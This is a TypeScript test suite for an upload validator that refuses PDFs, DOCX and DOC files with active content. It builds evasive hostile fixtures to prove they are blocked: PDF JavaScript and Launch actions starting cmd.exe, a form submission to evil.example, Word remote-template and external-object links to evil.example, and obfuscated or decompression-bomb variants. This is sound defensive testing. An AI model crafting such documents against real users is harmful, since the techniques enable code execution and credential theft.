import { deflateSync } from 'node:zlib'
import { expect, test } from 'vitest'
import { documentKind } from '#api/enquiries/documents.ts'
import { AppError } from '#core/contract/app-error.ts'
import { compoundFile, templated, wordStream } from './compound.ts'
import { docx, DOCX_PARTS, pdf } from './enquiries.ts'

/** The kind, or the code of the refusal. */
async function typeOf(bytes: Buffer): Promise<string> {
  return documentKind(bytes).catch((error: unknown) => {
    if (error instanceof AppError) return error.code
    throw error
  })
}

/** A PDF with more objects before its table. */
function pdfWith(...objects: (string | Buffer)[]): Buffer {
  const whole = pdf()
  const end = whole.indexOf('xref\n')
  const parts = objects.map((object) => (typeof object === 'string' ? Buffer.from(object, 'latin1') : object))
  return Buffer.concat([whole.subarray(0, end), ...parts, Buffer.from('\n'), whole.subarray(end)])
}

/** An object stream with one object. */
function packed(object: string, dictionary = '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', bytes?: Buffer) {
  const stream = bytes ?? deflateSync(Buffer.from(`9 0 ${object}`, 'latin1'))
  return Buffer.concat([
    Buffer.from(`8 0 obj\n<< ${dictionary} /Length ${stream.length} >>\nstream\n`),
    stream,
    Buffer.from('\nendstream\nendobj\n'),
  ])
}

const SCRIPT = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>'
const action = (text: string) => pdfWith(`9 0 obj\n${text}\nendobj\n`)

test.each<[string, () => Buffer]>([
  ['runs a script', () => action(SCRIPT)],
  ['runs a script when it is opened', () => pdfWith(`9 0 obj << /Type /Catalog /OpenAction ${SCRIPT} >> endobj`)],
  ['names scripts', () => action('<< /Names << /JavaScript << /Names [(a) 10 0 R] >> >> >>')],
  ['writes it without blanks', () => action('<</S/JavaScript/JS 12 0 R>>')],
  ['writes it in other letters', () => action('<< /S /J#61va#53cript /#4aS (x) >>')],
  ['writes it behind a comment', () => action('<< /S % a comment\n/JavaScript /JS (x) >>')],
  ['names the kind of action elsewhere', () => pdfWith('9 0 obj << /S 10 0 R >> endobj 10 0 obj/JavaScript endobj')],
  ['hides it in what looks like a text', () => pdfWith(`(\n9 0 obj ${SCRIPT} endobj\n)`)],
  ['hides it in what looks like a picture', () => pdfWith(`8 0 obj << >> stream\n9 0 obj ${SCRIPT} endobj endstream`)],
  ['runs a script of a rendition', () => action('<< /S /Rendition /JS (x) >>')],
  ['starts a program', () => action('<< /S /Launch /Win << /F (cmd.exe) >> >>')],
  ['starts a program in other letters', () => action('<< /S /L#61unch /F (cmd.exe) >>')],
  ['sends a form', () => action('<< /S /SubmitForm /F (https://evil.example) >>')],
  ['has a file attached', () => pdfWith('9 0 obj << /Type /EmbeddedFile /Length 1 >> stream\nx\nendstream endobj')],
  ['lists an attached file', () => action('<< /Names << /EmbeddedFiles << /Names [(a) 9 0 R] >> >> >>')],
  ['has a file attached that is not called one', () => action('<< /Type /Filespec /EF << /F 9 0 R >> >>')],
  ['has a form with scripts', () => action('<< /AcroForm << /Fields [] /XFA 10 0 R >> >>')],
  ['packs a script', () => pdfWith(packed(SCRIPT))],
  ['packs a script in other letters', () => pdfWith(packed('<< /S /Java#53cript /J#53 (x) >>'))],
  ['packs a launch', () => pdfWith(packed('<< /S /Launch /F (cmd.exe) >>'))],
  ['packs it in a stream without its type', () => pdfWith(packed(SCRIPT, '/N 1 /First 4 /Filter /FlateDecode'))],
  ['packs it in a stream of odd letters', () => pdfWith(packed(SCRIPT, '/Type /Obj#53tm /N 1 /F#69rst 4'))],
  [
    'packs it in a stream with a comment',
    () => pdfWith(packed(SCRIPT, '/N 1 /First 4 % 7 0 obj\n /Filter /FlateDecode')),
  ],
  ['packs it twice', () => pdfWith(packed('', '/Type /ObjStm /N 1 /First 4 /Filter [/FlateDecode /FlateDecode]'))],
  ['packs it in an odd way', () => pdfWith(packed('', '/Type /ObjStm /N 1 /First 4 /Filter /LZWDecode'))],
  [
    'packs it without end',
    () =>
      pdfWith(packed('', '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', deflateSync(Buffer.alloc(40_000_000)))),
  ],
])('a PDF that %s is refused', async (_, make) => {
  expect(await typeOf(make())).toBe('activeDocument')
})

const RELATIONSHIPS = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
const related = (attributes: string) =>
  `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">` +
  `<Relationship Id="rId1" ${attributes}/></Relationships>`
const relation = (type: string, target: string) =>
  related(`Type="${RELATIONSHIPS}/${type}" Target="${target}" TargetMode="External"`)
const withRelation = (xml: string, part = 'word/_rels/document.xml.rels') => docx({ ...DOCX_PARTS, [part]: xml })

test.each<[string, () => Buffer]>([
  [
    'has a template elsewhere',
    () => withRelation(relation('attachedTemplate', 'https://evil.example/a.dotm'), 'word/_rels/settings.xml.rels'),
  ],
  ['has a template on a server of files', () => withRelation(relation('attachedTemplate', '\\\\evil.example\\a.dotm'))],
  ['has one by another address', () => withRelation(relation('attachedTemplate', 'file://evil.example/a.dotm'))],
  ['fetches a picture', () => withRelation(relation('image', 'https://evil.example/a.png'))],
  ['fetches an object', () => withRelation(relation('oleObject', 'mhtml:https://evil.example/a.html'))],
  ['fetches a frame', () => withRelation(relation('frame', 'https://evil.example/'))],
  ['holds an object', () => withRelation(related(`Type="${RELATIONSHIPS}/oleObject" Target="embeddings/a.bin"`))],
  ['holds another document', () => withRelation(related(`Type="${RELATIONSHIPS}/aFChunk" Target="a.html"`))],
  [
    'writes it with single quotes',
    () => withRelation(`<Relationship TargetMode='External' Target='//evil.example/a' Type='x/attachedTemplate'/>`),
  ],
  [
    'writes it in other letters',
    () => withRelation(`<r:Relationship Type="x/im&#97;ge" Target="https://evil.example" TargetMode="&#x45;xternal"/>`),
  ],
  ['writes it by an entity', () => withRelation(`<!DOCTYPE a [<!ENTITY e "External">]>${related('Type="x"')}`)],
  [
    'has its list elsewhere',
    () => withRelation(relation('image', 'https://evil.example'), 'Word/_RELS/header1.xml.RELS'),
  ],
  [
    'has too many of them',
    () =>
      docx({
        ...DOCX_PARTS,
        ...Object.fromEntries(Array.from({ length: 11 }, (_, i) => [`word/_rels/a${i}.xml.rels`, ' '.repeat(999_999)])),
      }),
  ],
])('a DOCX that %s is refused', async (_, make) => {
  expect(await typeOf(make())).toBe('activeDocument')
})

test('a DOCX that lists it in UTF-16 is refused', async () => {
  const xml = `\ufeff${relation('attachedTemplate', 'https://evil.example/a.dotm')}`
  const bytes = Buffer.from(xml, 'utf16le')
  for (const part of [bytes, Buffer.from(bytes).swap16()])
    expect(await typeOf(docx({ ...DOCX_PARTS, 'word/_rels/settings.xml.rels': part }))).toBe('activeDocument')
})

test.each<[string, () => Buffer]>([
  ['has a template elsewhere', () => compoundFile(templated('https://evil.example/a.dot'))],
  ['has a template on a server of files', () => compoundFile(templated('\\\\evil.example\\a.dot'))],
  ['has one by another address', () => compoundFile(templated('file://evil.example/a.dot'))],
  ['has one in a short table', () => compoundFile(templated('http://evil.example/a', 900))],
  [
    'has a program packed into it',
    () =>
      compoundFile({
        WordDocument: wordStream(),
        ObjectPool: { _1: { '\u0001Ole10Native': Buffer.alloc(5000) } },
      }),
  ],
])('a DOC that %s is refused', async (_, make) => {
  expect(await typeOf(make())).toBe('activeDocument')
})

test.each<[string, string, () => Buffer]>([
  [
    'has bookmarks about scripts',
    'pdf',
    () => action('<< /Title (HTML5/JavaScript \\(React\\), Node/JS (2 years)) >>'),
  ],
  ['opens at a page', 'pdf', () => action('<< /Type /Catalog /OpenAction [3 0 R /Fit] >>')],
  ['has links', 'pdf', () => action('<< /Type /Annot /A << /S /URI /URI (https://example.org) >> >>')],
  ['packs its objects', 'pdf', () => pdfWith(packed('<< /Type /Outlines /First 2 0 R >>'))],
  [
    'has a picture after bookmarks',
    'pdf',
    () => pdfWith(packed('', '/First 4 /N 2 /Filter /DCTDecode', Buffer.alloc(99))),
  ],
  ['has links', 'docx', () => withRelation(relation('hyperlink', 'https://example.org'))],
  ['has pictures', 'docx', () => withRelation(related(`Type="${RELATIONSHIPS}/image" Target="media/image1.png"`))],
  [
    "was made from a template on the writer's disk",
    'docx',
    () => withRelation(relation('attachedTemplate', 'file:///C:\\Users\\dana\\Templates\\Resume.dotx')),
  ],
  ['was made from the usual template', 'doc', () => compoundFile(templated('Normal.dot'))],
  ["was made from one on the writer's disk", 'doc', () => compoundFile(templated('C:\\Templates\\Resume.dot'))],
])('a document that %s is a %s', async (_, kind, make) => {
  expect(await typeOf(make())).toBe(kind)
})

test('a PDF made to take long comes to an end', async () => {
  const much = (text: string) => pdfWith(text.repeat(Math.floor(1_000_000 / text.length)))
  const kinds = []
  for (const text of ['stream\n', '/First /N stream\n', '/S /J#61', '/JS ', ' obj /ObjStm stream\n', '/Fl /Fl '])
    kinds.push(await typeOf(much(text)))
  expect(kinds).toEqual(['pdf', 'pdf', 'pdf', 'pdf', 'pdf', 'pdf'])
})
